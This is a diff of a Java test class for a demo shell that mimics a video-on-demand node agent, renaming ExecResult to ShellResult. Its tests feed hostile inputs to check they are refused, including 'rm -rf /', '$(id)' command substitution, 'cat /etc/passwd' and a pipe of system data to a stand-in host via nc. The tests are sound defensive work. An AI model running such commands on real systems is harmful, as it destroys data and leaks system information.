@@ -24,7 +24,7 @@ class DemoShellTest {
             "vodnode");
     private final DemoShell shell = new DemoShell();
 
-    private ExecResult run(String command) {
+    private ShellResult run(String command) {
         return shell.run(node, command);
     }
 
@@ -37,7 +37,7 @@ class DemoShellTest {
     void pollScriptAnswersEverySectionInOrder() throws Exception {
         run(playCommand("s1", "cam-001"));
 
-        ExecResult result = run(PollScript.command("vodnode", true));
+        ShellResult result = run(PollScript.command("vodnode", true));
 
         PollReply reply = PollScript.parseReply(result.stdout(), true);
         assertThat(result.exitStatus()).isZero();
@@ -49,7 +49,7 @@ class DemoShellTest {
 
     @Test
     void pollForAnotherAgentStillReportsTheLoadAndMarksTheAgentMissing() throws Exception {
-        ExecResult result = run(PollScript.command("/opt/other/vodnode", false));
+        ShellResult result = run(PollScript.command("/opt/other/vodnode", false));
 
         PollReply reply = PollScript.parseReply(result.stdout(), false);
         assertThat(reply.procExit()).isZero();
@@ -61,7 +61,7 @@ class DemoShellTest {
 
     @Test
     void agentlessLoadCommandCatsTheProcFiles() throws Exception {
-        ExecResult result = run("cat /proc/stat /proc/meminfo /proc/net/dev");
+        ShellResult result = run("cat /proc/stat /proc/meminfo /proc/net/dev");
 
         assertThat(result.exitStatus()).isZero();
         assertThat(ProcParser.parse(result.stdout(), 0).netBytes()).isPositive();
@@ -69,7 +69,7 @@ class DemoShellTest {
 
     @Test
     void catOfAnyOtherFileFindsNothing() {
-        ExecResult result = run("cat /etc/passwd");
+        ShellResult result = run("cat /etc/passwd");
 
         assertThat(result.exitStatus()).isEqualTo(1);
         assertThat(result.stdout()).isEmpty();
@@ -78,7 +78,7 @@ class DemoShellTest {
 
     @Test
     void playThenStatusShowsTheSession() throws Exception {
-        ExecResult played = run(playCommand("s1", "cam-004"));
+        ShellResult played = run(playCommand("s1", "cam-004"));
 
         assertThat(VodnodeParser.parseCommandReply(played.stdout()))
                 .isEqualTo(new CommandReply.Ok("s1", "demo://vod-1/s1"));
@@ -88,7 +88,7 @@ class DemoShellTest {
 
     @Test
     void refusalsAreErrorRecordsWithExitStatusZeroLikeTheShellAgent() throws Exception {
-        ExecResult result = run(AgentCommands.stop("vodnode", "ghost"));
+        ShellResult result = run(AgentCommands.stop("vodnode", "ghost"));
 
         assertThat(result.exitStatus()).isZero();
         assertThat(VodnodeParser.parseCommandReply(result.stdout()))
@@ -99,7 +99,7 @@ class DemoShellTest {
     void shellSyntaxIsRefusedBeforeAnythingRuns() {
         for (String hostile : new String[] {"vodnode status; rm -rf /", "vodnode status && id", "echo $(id)",
                 "cat /proc/stat | nc evil 1", "vodnode status > /tmp/x", "`id`", "vodnode \"status\""}) {
-            ExecResult result = run(hostile);
+            ShellResult result = run(hostile);
             assertThat(result.exitStatus()).as(hostile).isEqualTo(2);
             assertThat(result.stdout()).as(hostile).isEmpty();
             assertThat(result.stderr()).as(hostile).startsWith("demo-node: refused:");
@@ -111,7 +111,7 @@ class DemoShellTest {
         for (String camera : new String[] {"; rm -rf /", "$(id)", "it's", "x".repeat(10_000)}) {
             String command = "'vodnode' 'play' '--session' 's1' '--camera' "
                     + ShellWords.quote(camera) + " '--begin' '1'";
-            ExecResult result = run(command);
+            ShellResult result = run(command);
             assertThat(VodnodeParser.parseCommandReply(result.stdout()))
                     .isInstanceOfSatisfying(CommandReply.Refused.class,
                             r -> assertThat(r.code()).isEqualTo("bad-argument"));
@@ -130,7 +130,7 @@ class DemoShellTest {
                 "'vodnode' 'rate' '--rate' '2' '--session' 's1'",
                 "'vodnode' 'stop' '--session'",
                 "'vodnode'"}) {
-            ExecResult result = run(command);
+            ShellResult result = run(command);
             assertThat(VodnodeParser.parseCommandReply(result.stdout())).as(command)
                     .isInstanceOfSatisfying(CommandReply.Refused.class,
                             r -> assertThat(r.code()).isEqualTo("bad-argument"));
@@ -139,7 +139,7 @@ class DemoShellTest {
 
     @Test
     void unknownVerbIsRefusedAsAnUnknownCommand() throws Exception {
-        ExecResult result = run("'vodnode' 'reboot'");
+        ShellResult result = run("'vodnode' 'reboot'");
 
         assertThat(VodnodeParser.parseCommandReply(result.stdout()))
                 .isInstanceOfSatisfying(CommandReply.Refused.class,
@@ -148,7 +148,7 @@ class DemoShellTest {
 
     @Test
     void otherCommandsAreNotFound() {
-        ExecResult result = run("ls /");
+        ShellResult result = run("ls /");
 
         assertThat(result.exitStatus()).isEqualTo(127);
         assertThat(result.stderr()).isEqualTo("sh: 1: ls: not found\n");
